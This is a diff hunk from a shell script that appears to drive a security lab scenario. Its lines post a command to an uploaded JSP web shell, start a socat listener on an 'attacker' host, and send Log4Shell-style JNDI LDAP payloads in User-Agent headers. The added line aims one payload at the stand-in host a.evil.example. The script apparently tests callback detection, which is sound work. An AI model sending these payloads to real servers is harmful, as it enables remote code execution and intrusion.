@@ -129,6 +129,7 @@ take shell-gone web --data 'cmd=id' "$B:8080/upload/gone.jsp"
 serve attacker socat "TCP-LISTEN:1389,bind=$X,fork,reuseaddr" 'SYSTEM:sleep 0.2; echo 0'
 sleep 0.3
 J='${jndi:ldap://'
+REST=1.5 take jndi-asked on attacker curl -s -m 8 -o /dev/null -A "${J}a.evil.example:1389/a}" "$B:8080/"
 REST=1.5 take jndi-called-back on attacker curl -s -m 8 -o /dev/null -A "$J$X:1389/a}" "$B:8080/"
 REST=1.5 take jndi-called-nobody on attacker curl -s -m 8 -o /dev/null -A "$J$X:1390/a}" "$B:8080/"
 REST=1.5 take jndi-called-third on attacker curl -s -m 8 -o /dev/null -A "$J$C:4444/a}" "$B:8080/"
